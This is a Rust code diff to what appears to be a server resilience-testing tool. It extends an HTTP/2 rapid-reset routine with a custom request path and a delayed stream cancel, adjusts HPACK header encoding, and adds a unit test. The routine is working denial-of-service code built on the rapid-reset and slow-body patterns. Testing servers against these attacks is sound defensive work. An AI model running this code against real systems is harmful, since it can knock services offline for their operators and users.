@@ -47,11 +47,21 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     out
 }
 
-/// A request's header block in HPACK without dynamic state: `:method` (GET or POST),
-/// `:scheme: http` and `:path: /` from the static table, `:authority` as a literal.
-fn request_headers(post: bool, authority: &str) -> Vec<u8> {
+/// A request's header block in HPACK without dynamic state: `:method` (GET or POST) and
+/// `:scheme: http` from the static table, `:path` from it too when it is `/` (else a
+/// literal), `:authority` as a literal. Values are shorter than 127 bytes.
+fn request_headers(post: bool, path: &str, authority: &str) -> Vec<u8> {
     let method = if post { 0x83 } else { 0x82 };
-    let mut block = vec![method, 0x86, 0x84, 0x01, authority.len() as u8];
+    let mut block = vec![method, 0x86];
+    match path {
+        "/" => block.push(0x84),
+        _ => {
+            // Literal without indexing, name from the static table (4, `:path`).
+            block.extend_from_slice(&[0x04, path.len() as u8]);
+            block.extend_from_slice(path.as_bytes());
+        }
+    }
+    block.extend_from_slice(&[0x01, authority.len() as u8]);
     block.extend_from_slice(authority.as_bytes());
     if post {
         // content-length (static index 28) as a literal without indexing: a large body that
@@ -144,39 +154,49 @@ fn open_h2(target: SocketAddr) -> std::io::Result<TcpStream> {
 }
 
 /// The rapid-reset pattern on one h2c connection to `target` for at most `duration` or
-/// `max_streams` streams: open a stream with a complete request, cancel it at once, again.
-/// The server is expected to end the connection.
+/// `max_streams` streams: open a stream with a complete request for `path`, cancel it
+/// `reset_after` later (at once for zero), again. The server is expected to end the
+/// connection.
 pub fn h2_rapid_reset(
     target: SocketAddr,
+    path: &str,
+    reset_after: Duration,
     duration: Duration,
     max_streams: u64,
 ) -> std::io::Result<H2Outcome> {
     let mut stream = open_h2(target)?;
     let authority = target.to_string();
-    let headers = request_headers(false, &authority);
+    let headers = request_headers(false, path, &authority);
     let mut inbox = Inbox::new();
     let mut streams = 0;
     let started = Instant::now();
     let mut id: u32 = 1;
     while started.elapsed() < duration && streams < max_streams && id < 0x7fff_fff0 {
-        let mut burst = frame(FRAME_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, id, &headers);
-        burst.extend(frame(FRAME_RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
-        if stream.write_all(&burst).is_err() {
+        let open = frame(FRAME_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, id, &headers);
+        let cancel = frame(FRAME_RST_STREAM, 0, id, &CANCEL.to_be_bytes());
+        let sent = match reset_after.is_zero() {
+            true => stream.write_all(&[open, cancel].concat()),
+            false => stream.write_all(&open).and_then(|()| {
+                std::thread::sleep(reset_after);
+                stream.write_all(&cancel)
+            }),
+        };
+        if sent.is_err() {
             inbox.closed = true;
             break;
         }
         streams += 1;
         id += 2;
-        if streams % 16 == 0 {
+        if streams % 16 == 0 || !reset_after.is_zero() {
             inbox.poll(&mut stream);
             if inbox.closed || inbox.goaway.is_some() {
                 break;
             }
         }
     }
-    // Whatever the server sent last (its GOAWAY, the close) arrives within a moment.
+    // The close follows a GOAWAY once the server's grace for streams in flight is over.
     let settle = Instant::now();
-    while settle.elapsed() < Duration::from_millis(500) && !inbox.closed {
+    while settle.elapsed() < Duration::from_secs(3) && !inbox.closed {
         inbox.poll(&mut stream);
         std::thread::sleep(Duration::from_millis(10));
     }
@@ -194,7 +214,7 @@ pub fn h2_slow_bodies(
     duration: Duration,
 ) -> std::io::Result<H2Outcome> {
     let mut stream = open_h2(target)?;
-    let headers = request_headers(true, &target.to_string());
+    let headers = request_headers(true, "/", &target.to_string());
     let mut inbox = Inbox::new();
     let mut opened = 0;
     for n in 0..streams {
@@ -305,11 +325,13 @@ mod tests {
 
     #[test]
     fn the_request_header_block_is_hpack_a_decoder_reads() {
-        let block = request_headers(true, "198.18.0.11:80");
+        let block = request_headers(true, "/", "198.18.0.11:80");
         // Indexed :method POST, :scheme http, :path /; literal :authority; literal
         // content-length.
         assert_eq!(&block[..4], &[0x83, 0x86, 0x84, 0x01]);
         assert_eq!(usize::from(block[4]), "198.18.0.11:80".len());
         assert!(block.ends_with(b"\x0f\x0d\x071000000"));
+        let block = request_headers(false, "/stuck", "lb");
+        assert_eq!(block, b"\x82\x86\x04\x06/stuck\x01\x02lb");
     }
 }
